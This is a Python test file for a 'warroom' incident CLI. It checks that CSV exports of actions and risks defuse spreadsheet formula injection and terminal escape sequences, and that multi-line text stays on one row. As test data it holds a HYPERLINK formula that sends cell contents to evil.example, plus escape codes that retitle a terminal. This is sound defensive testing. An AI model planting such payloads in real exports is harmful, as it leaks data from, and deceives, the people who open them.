"""``warroom actions`` and ``warroom risks`` against a hostile new user: text that a
spreadsheet would run as a formula, commas, newlines and terminal escapes in what they
type, and a risk without a review date. The real console script, a real home."""

import csv
import io

from warroom.actions import WarRoom
from warroom.core import events as ev
from warroom.core.policy import default_policy
from warroom.store.local import LocalStore

FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'
ESCAPE = "\x1b]0;pwned\x07red \x1b[31malert\x1b[0m"


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_of_actions_and_risks_cannot_run_in_a_spreadsheet_or_a_terminal(cli, tmp_path):
    incident = cli("declare", "Checkout 502s", "--severity", "SEV2").out.strip()
    cli("actions", "add", incident, FORMULA, "--owner", "+bob", "--ticket", "@SUM(1+1)")
    cli("actions", "add", incident, "two lines,\nwith, commas", "--owner", "-dee")
    cli("actions", "add", incident, ESCAPE, "--owner", "cy")
    risk = cli("risks", "add", "=1+1", "-l", "likely", "--impact", "severe").out.strip()
    cli("risks", "link", risk, incident)

    out = cli("actions", "list", "--csv").out
    assert "\x1b" not in out and "\x07" not in out
    rows = {row["owner"]: row for row in _csv(out)}
    assert rows["'+bob"]["text"] == "'" + FORMULA and rows["'+bob"]["ticket"] == "'@SUM(1+1)"
    assert rows["'-dee"]["text"] == "two lines,\nwith, commas"  # kept whole, quoted by CSV
    assert rows["cy"]["text"] == "␛]0;pwned␇red ␛[31malert␛[0m"

    [row] = _csv(cli("risks", "list", "--csv").out)
    assert row["title"] == "'=1+1" and row["incidents"] == incident and row["mitigations"] == ""


def test_a_listing_keeps_one_row_per_item_whatever_its_text(cli):
    incident = cli("declare", "Checkout 502s", "--severity", "SEV2").out.strip()
    cli("actions", "add", incident, "first line\nsecond line")
    cli("risks", "add", "a title\non two lines", "-l", "likely", "--impact", "severe")

    [item] = cli("actions", "list").out.splitlines()
    assert "first line⏎second line" in item
    [risk] = cli("risks", "list").out.splitlines()
    assert "a title⏎on two lines" in risk


def test_a_risk_without_a_review_date_still_shows_its_owner_and_status(cli, tmp_path):
    """Another client may raise a risk with no review date (the entry allows it)."""
    home = tmp_path / "home"
    cli("declare", "Checkout 502s", "--severity", "SEV2", home=home, user="ana")
    store = LocalStore(home / "warroom.db")
    try:
        room = WarRoom(store, default_policy(), "ana")
        raised = ev.RiskRaised(title="One DB primary", likelihood="likely", impact="severe")
        room._append(
            None, raised.model_copy(update={"owner": "dee"}), None, incident_id="risk-abc123"
        )
    finally:
        store.close()

    shown = cli("risks", "show", "abc123", home=home, user="ana").out
    assert "owner dee, status open, no review date" in shown, shown
